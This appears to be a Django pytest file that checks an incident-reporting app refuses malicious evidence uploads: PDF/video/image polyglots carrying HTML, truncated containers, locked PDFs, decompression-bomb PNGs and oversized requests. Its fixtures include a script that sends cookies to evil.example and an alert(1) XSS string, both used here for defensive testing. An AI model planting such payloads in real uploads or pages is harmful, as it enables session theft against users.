"""Uploads are judged by their whole structure, not their first bytes; size, pixels, names and counts are capped.

Issue 10, low: PDF, video and HEIC were checked by their first bytes only (PDF-plus-HTML polyglots passed), a
144-megapixel PNG was accepted, 11 files added to a filed report were all refused rather than the 11th, and
nothing capped the size of a whole request.
"""

import io
import struct
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from pypdf import PdfWriter

from incidents.models import Evidence, ReportDraft
from incidents.services.evidence import upload_check
from tests import factories
from tests.incidents.reporting_support import (
    MOV_BYTES,
    MP4_BYTES,
    PDF_BYTES,
    box,
    heic_bytes,
    isobmff_bytes,
    jpeg_bytes,
    minimal_post,
    ogg_bytes,
    pdf_bytes,
    photo,
    webm_bytes,
)

REPORT = reverse("incidents:report")
PAGE = b"<html><body><script>document.location='https://evil.example/?'+document.cookie</script></body></html>"


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="application/octet-stream")


def refused(name: str, content: bytes) -> str:
    with pytest.raises(ValidationError) as caught:
        upload_check(upload(name, content))
    assert name[:40] in caught.value.messages[0]
    return caught.value.code


def png_header(width: int, height: int) -> bytes:
    """A PNG that declares its size in its header (what a decompression bomb relies on), with one tiny row."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\x00")) + chunk(b"IEND", b"")


# --- Structure, not first bytes ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name,content",
    [
        ("letter.pdf", b"%PDF-1.4\n" + PAGE),  # a PDF header over a web page
        ("letter.pdf", b"%PDF-1.4\n" + PAGE + PDF_BYTES[9:]),  # a real PDF with a web page at its start
        ("letter.pdf", PDF_BYTES + PAGE),  # and at its end
        ("clip.mp4", MP4_BYTES[:32] + PAGE),  # the `ftyp` of a video, then a page
        ("clip.mp4", MP4_BYTES + PAGE),
        ("clip.mov", MOV_BYTES[:20] + PAGE),
        ("photo.heic", heic_bytes()[:24] + PAGE),
        ("clip.webm", webm_bytes()[:40] + PAGE),
        ("photo.jpg", jpeg_bytes()[:20] + b"<script>alert(1)</script>" + jpeg_bytes()[20:]),
    ],
)
def test_a_file_that_is_also_a_web_page_is_refused(name, content):
    assert refused(name, content) in {"markup", "broken_file"}


@pytest.mark.parametrize(
    "name,content",
    [
        ("empty.pdf", pdf_bytes(pages=0)),  # opens, but holds no page
        ("cut.pdf", PDF_BYTES[: len(PDF_BYTES) // 2]),  # the first half of a document
        ("garbage.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 8),
        ("cut.mp4", MP4_BYTES[:-10]),  # a box runs past the end of the file
        ("extra.mp4", MP4_BYTES + b"\x00" * 7),  # bytes after the last box
        ("nomovie.mp4", isobmff_bytes(b"mp42", b"mp42isom", box(b"mdat", b"\x00" * 16))),  # no `moov`
        ("badbox.mov", MOV_BYTES[:20] + b"\x00\x00\x00\x10\x01\x02\x03\x04" + b"\x00" * 8),  # a box type of noise
        ("noinfo.heic", isobmff_bytes(b"heic", b"mif1heic", box(b"mdat", b"\x00" * 16))),  # no `meta`
        ("cut.webm", webm_bytes()[:-5]),
        ("cut.ogg", ogg_bytes()[:-3]),
    ],
)
def test_a_file_whose_structure_does_not_hold_is_refused(name, content):
    assert refused(name, content) == "broken_file"


def test_a_pdf_locked_with_a_password_is_refused_with_its_own_reason():
    writer = PdfWriter()
    writer.add_blank_page(width=100, height=100)
    writer.encrypt("secret", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    assert refused("locked.pdf", buffer.getvalue()) == "protected"


@pytest.mark.parametrize(
    "name,content,kind",
    [
        ("letter.pdf", pdf_bytes(pages=2), Evidence.Kind.DOCUMENT),
        ("clip.mp4", MP4_BYTES, Evidence.Kind.VIDEO),
        ("clip.mov", MOV_BYTES, Evidence.Kind.VIDEO),
        ("photo.heic", heic_bytes(), Evidence.Kind.PHOTO),
        ("clip.webm", webm_bytes(), Evidence.Kind.VIDEO),
        ("voice.ogg", ogg_bytes(), Evidence.Kind.AUDIO),
    ],
)
def test_whole_files_of_each_kind_are_still_accepted(name, content, kind):
    assert upload_check(upload(name, content)).kind == kind


# --- Pixels ----------------------------------------------------------------------------------------------------


def test_a_144_megapixel_png_is_refused_with_a_clear_message():
    with pytest.raises(ValidationError) as caught:
        upload_check(upload("scan.png", png_header(12_000, 12_000)))
    assert caught.value.code == "too_many_pixels"
    message = "“scan.png” is too large a picture: more than 50 megapixels. Send a smaller copy."
    assert caught.value.messages[0] == message


def test_a_picture_too_large_for_pillow_to_open_is_refused_the_same_way():
    assert refused("bomb.png", png_header(20_000, 20_000)) == "too_many_pixels"  # 400 MP: Pillow refuses it


def test_a_heic_declaring_too_many_pixels_is_refused():
    assert refused("huge.heic", heic_bytes(12_000, 12_000)) == "too_many_pixels"


def test_the_pixel_limit_comes_from_settings(settings):
    settings.QORGAU_UPLOAD_MAX_PIXELS = 100
    assert refused("photo.jpg", jpeg_bytes((20, 20))) == "too_many_pixels"
    settings.QORGAU_UPLOAD_MAX_PIXELS = 400
    assert upload_check(upload("photo.jpg", jpeg_bytes((20, 20)))).kind == Evidence.Kind.PHOTO


# --- Counts: the first ten go, the rest are named (as the report form does) -------------------------------


@pytest.mark.django_db
def test_eleven_files_added_later_send_ten_and_name_the_eleventh(client, reporter, facility_a):
    incident = factories.IncidentFactory(facility=facility_a, reporter=reporter)
    client.force_login(reporter)
    files = [photo(f"photo-{n:02d}.jpg") for n in range(1, 12)]
    url = reverse("incidents:report_add_info", args=[incident.pk])
    response = client.post(url, {"info-body": "Ещё снимки.", "info-evidence": files}, follow=True)
    assert response.status_code == 200
    assert incident.evidence.count() == 10
    assert "these were not attached: photo-11.jpg." in response.content.decode()


@pytest.mark.django_db
def test_a_file_within_the_count_still_goes_when_the_report_has_room(client, reporter, facility_a):
    client.force_login(reporter)
    response = client.post(REPORT, minimal_post(facility_a, evidence=[photo(f"p{n}.jpg") for n in range(10)]))
    assert response.status_code == 302 and Evidence.objects.count() == 10


# --- The size of a whole request ---------------------------------------------------------------------------------


@pytest.mark.django_db
def test_a_request_larger_than_the_cap_is_answered_413_before_it_is_read(client, reporter, facility_a, settings):
    settings.QORGAU_REQUEST_MAX_BYTES = 50_000
    client.force_login(reporter)
    big = SimpleUploadedFile("big.jpg", jpeg_bytes((600, 600), "white") + b"\x00" * 60_000)
    response = client.post(REPORT, minimal_post(facility_a, evidence=[big]))
    assert response.status_code == 413
    html = response.content.decode()
    assert "Everything sent at once must stay under 48.8\xa0KB" in html
    assert not ReportDraft.objects.exists()  # nothing was read, nothing stored


def test_the_default_cap_is_every_file_at_its_limit_plus_the_form(settings):
    assert settings.QORGAU_REQUEST_MAX_BYTES >= settings.QORGAU_UPLOAD_MAX_BYTES * settings.QORGAU_UPLOAD_MAX_FILES


@pytest.mark.django_db
def test_a_request_under_the_cap_goes_through(client, reporter, facility_a, settings):
    settings.QORGAU_REQUEST_MAX_BYTES = 500_000
    client.force_login(reporter)
    response = client.post(REPORT, minimal_post(facility_a, evidence=[photo()]))
    assert response.status_code == 302


@pytest.mark.django_db
def test_the_report_form_knows_the_cap_to_warn_before_sending(client, reporter, facility_a, settings):
    settings.QORGAU_REQUEST_MAX_BYTES = 123_456
    client.force_login(reporter)
    html = client.get(REPORT).content.decode()
    assert 'data-max-request-bytes="123456"' in html
